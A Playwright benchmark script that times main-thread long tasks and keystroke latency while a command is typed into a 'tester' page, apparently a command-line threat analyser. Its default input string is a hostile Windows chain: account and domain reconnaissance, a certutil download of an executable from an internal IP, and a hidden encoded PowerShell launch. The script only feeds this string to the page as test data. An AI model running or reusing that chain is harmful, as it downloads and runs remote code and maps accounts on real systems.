/**
 * Typing in the tester in Chromium: main-thread long tasks while a command line is typed key by
 * key (30 keys, 40 ms apart) after a first report is shown, on the built out/ served at
 * BASE_URL (default http://127.0.0.1:4173). Prints the long tasks' count, total, longest and p95.
 *
 *   node scripts/static-server.mjs out 4173 & npx tsx scripts/bench-tester-typing.ts [rounds]
 */
import { launchChromium } from "./bench/chromium.ts"

const BASE = process.env.BASE_URL ?? "http://127.0.0.1:4173"
const ROUNDS = Number(process.argv[2] ?? 3)
/** CPU slowdown Chromium emulates (THROTTLE=4: a machine four times slower, or a CI box under load). */
const THROTTLE = Number(process.env.THROTTLE ?? 1)
const START =
  process.env.START ??
  "cmd.exe /c whoami /all && net user /domain && certutil -urlcache -split -f http://10.0.0.5/a.exe a.exe && powershell -nop -w hidden -enc SQBFAFgA "
const TYPED = '"cmd.exe /c whoami /all > c:\\x"'.padEnd(30, " ").slice(0, 30)

const browser = await launchChromium()
const all: number[] = []
const keys: number[] = []
for (let round = 0; round < ROUNDS; round++) {
  const page = await browser.newPage({ viewport: { width: 1440, height: 900 } })
  await page.goto(`${BASE}/tester/#cmd=${encodeURIComponent(START)}`)
  await page.getByTestId("verdict").first().waitFor({ timeout: 60_000 })
  if (round === 0 && process.env.SHOT) await page.screenshot({ path: process.env.SHOT, fullPage: true })
  await page.waitForTimeout(1000)
  await page.evaluate(() => {
    const w = window as unknown as { __long: number[]; __events: number[] }
    w.__long = []
    w.__events = []
    new PerformanceObserver((l) => {
      for (const e of l.getEntries()) w.__long.push(e.duration)
    }).observe({ type: "longtask" })
    // Event timing: each key's input delay, handlers and next paint, as INP counts it.
    new PerformanceObserver((l) => {
      for (const e of l.getEntries()) if (e.name === "keydown" || e.name === "input") w.__events.push(e.duration)
    }).observe({ type: "event", durationThreshold: 16 } as PerformanceObserverInit)
  })
  if (THROTTLE > 1) {
    const cdp = await page.context().newCDPSession(page)
    await cdp.send("Emulation.setCPUThrottlingRate", { rate: THROTTLE })
  }
  const box = page.locator("#t-cmd")
  await box.focus()
  await box.press("End")
  await box.pressSequentially(TYPED, { delay: 40 })
  // The last answer and its render.
  await page.waitForFunction(() => !document.querySelector('[role="status"]')?.textContent?.includes("Evaluating"))
  await page.waitForTimeout(1000)
  const { long, events } = await page.evaluate(() => {
    const w = window as unknown as { __long: number[]; __events: number[] }
    return { long: w.__long, events: w.__events }
  })
  all.push(...long)
  keys.push(...events)
  const sum = long.reduce((a, b) => a + b, 0)
  console.log(
    `round ${round + 1}: ${long.length} long tasks, total ${sum.toFixed(0)} ms, longest ${Math.max(0, ...long).toFixed(0)} ms; ${events.length} key events over 16 ms, longest ${Math.max(0, ...events).toFixed(0)} ms`,
  )
  await page.close()
}
all.sort((a, b) => a - b)
const p95 = all.length ? all[Math.min(all.length - 1, Math.floor(all.length * 0.95))] : 0
console.log(
  `all rounds: ${all.length} long tasks (${(all.length / ROUNDS).toFixed(1)} per round), longest ${Math.max(0, ...all).toFixed(0)} ms, p95 ${p95!.toFixed(0)} ms, total per round ${(all.reduce((a, b) => a + b, 0) / ROUNDS).toFixed(0)} ms`,
)
keys.sort((a, b) => a - b)
console.log(
  `key events (keydown/input, duration to next paint) over 16 ms: ${keys.length} of ${ROUNDS * TYPED.length * 2}, p95 of those ${keys.length ? keys[Math.floor(keys.length * 0.95)] : 0} ms, longest ${Math.max(0, ...keys)} ms (CPU throttle ${THROTTLE}x)`,
)
await browser.close()
